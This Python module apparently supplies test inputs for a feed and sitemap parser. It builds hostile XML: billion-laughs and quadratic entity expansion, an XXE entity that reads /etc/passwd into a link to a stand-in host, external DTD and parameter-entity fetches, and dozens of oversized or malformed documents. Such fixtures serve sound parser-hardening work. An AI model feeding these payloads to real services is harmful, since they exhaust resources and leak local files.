"""Feeds and sitemaps that cost whoever reads them, written once for both forms."""

_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10))
LISTS = {
    "laughs": "<!DOCTYPE x [{laughs}]>{open}<{item}><{link}>&l9;</{link}></{item}>{close}",
    "in-attribute": '<!DOCTYPE x [{laughs}]>{open}<{item} a="&l9;"/>{close}',
    "file": "<!DOCTYPE x [<!ENTITY f SYSTEM 'file:///etc/passwd'>]>{open}<{item}><{link}>"
    "http://a.example/&f;</{link}></{item}>{close}",
    "dtd": "<!DOCTYPE x SYSTEM 'http://127.0.0.2:9/x.dtd'>{open}{close}",
    "parameter": "<!DOCTYPE x [<!ENTITY % p SYSTEM 'http://127.0.0.2:9/x'> %p;]>{open}{close}",
    "quadratic": "<!DOCTYPE x [<!ENTITY q '"
    + "q" * 100_000
    + "'>]>{open}<{item}><{link}>"
    + "&q;" * 10_000
    + "</{link}></{item}>{close}",
    "deep": "{open}" + "<a>" * 100_000 + "{close}",
    "wide": "{open}" + "<{item}/>" * 100_000 + "{close}",
    "attributes": "{open}<{item} " + " ".join(f"a{n}='x'" for n in range(50_000)) + "/>{close}",
    "one-attribute": "{open}<{item} a='" + "x" * 1_500_000 + "'/>{close}",
    "no-ends": "{open}" + "<{item}>" * 100_000,
    "ends": "{open}" + "</{item}>" * 100_000,
    "ampersands": "{open}" + "&" * 1_500_000 + "{close}",
    "angles": "{open}" + "<" * 1_500_000 + "{close}",
    "comments": "{open}" + "<!--" * 300_000 + "{close}",
    "cdata": "{open}" + "<![CDATA[" * 150_000 + "{close}",
    "doctypes": "<!DOCTYPE " * 150_000 + "{open}{close}",
    "entities": "<!DOCTYPE x [" + "<!ENTITY a 'b'>" * 80_000 + "]>{open}{close}",
    "long-title": "{open}<{item}><title>" + "<" * 700_000 + "&lt;" * 100_000 + "</title></{item}>",
    "nul": "{open}\0<{item}><{link}>/x\0y</{link}></{item}>{close}",
    "namespaces": "{open}" + "".join(f"<{{item}} xmlns:n{n}='u{n}'/>" for n in range(20_000)),
}
"""By name; what stands in braces depends on the form."""

_FORMS = {
    "rss": ("item", "link", "<rss><channel>", "</channel></rss>"),
    "urlset": ("url", "loc", "<urlset>", "</urlset>"),
}


def list_of(form: str, name: str) -> bytes:
    """Return a list of ``LISTS`` as a feed (``rss``) or a sitemap (``urlset``)."""
    item, link, opening, closing = _FORMS[form]
    body = LISTS[name]
    words = {"laughs": _LAUGHS, "item": item, "link": link, "open": opening, "close": closing}
    for word, text in words.items():
        body = body.replace(f"{{{word}}}", text)
    return body.encode()
